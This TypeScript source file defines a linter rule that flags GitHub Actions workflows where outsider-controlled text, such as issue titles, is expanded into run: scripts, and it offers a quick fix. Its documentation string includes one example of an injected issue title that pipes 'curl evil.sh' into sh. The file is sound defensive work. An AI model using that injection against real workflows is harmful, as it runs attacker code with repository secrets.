import type { Rule } from '../../engine/types';
import { EXTERNAL_TRIGGERS, shellOf, triggers } from '../facts';
import { moveToEnvFix } from '../fixes';
import type { ActionsModel } from '../model';
import { injections } from '../taint';

export const templateInjection: Rule<ActionsModel> = {
  id: 'actions/template-injection',
  aliases: ['zizmor/template-injection', 'actionlint/expression'],
  severity: 'error',
  profile: 'recommended',
  category: 'security',
  fixable: true,
  description: 'Text an outsider controls is expanded into a script (`run:` or github-script) by `${{ }}`.',
  docs: `\`\${{ }}\` is substituted into the script before the shell (or Node) sees it. An issue title such as
\`"; curl evil.sh | sh; echo "\` then becomes code that runs with the workflow's token and secrets.

Reported for fields anyone can set — issue, PR, discussion titles and bodies, comment and review bodies, branch
names (\`github.head_ref\`), commit messages and author names, wiki page names — used directly, or through an
\`env:\` variable or a step output that visibly carries them. It is an error when the workflow runs on events
outsiders can trigger (pull requests, issues, comments…), a warning otherwise (e.g. in composite actions).

**Fix**: pass the value through an environment variable; the shell then treats it as data. The quick fix does this.

**Bad**
\`\`\`yaml
- run: echo "\${{ github.event.issue.title }}"
\`\`\`
**Good**
\`\`\`yaml
- run: echo "\${ISSUE_TITLE}"
  env:
    ISSUE_TITLE: \${{ github.event.issue.title }}
\`\`\``,
  check(ctx) {
    const model = ctx.model;
    const events = [...triggers(model).keys()];
    const external = model.kind === 'workflow' && events.some((e) => EXTERNAL_TRIGGERS.includes(e));
    for (const inj of injections(model)) {
      const where = inj.sink === 'run' ? 'this script' : 'this github-script';
      const via = inj.origin ? ` (it carries ${inj.origin})` : '';
      const fix = moveToEnvFix(model, inj, shellOf(inj.step, model));
      ctx.report({
        range: model.index.range(inj.expr.start, inj.expr.end),
        message: `${inj.path}${via} ${inj.path.includes(', ') ? 'are' : 'is'} controlled by whoever triggers the workflow and ${inj.path.includes(', ') ? 'are' : 'is'} pasted into ${where} as code: pass ${inj.path.includes(', ') ? 'them' : 'it'} through an environment variable.`,
        severity: external ? undefined : 'warning',
        aliases: inj.origin ? ['zizmor/template-injection'] : ['zizmor/template-injection', 'actionlint/expression'],
        fix,
      });
    }
  },
};
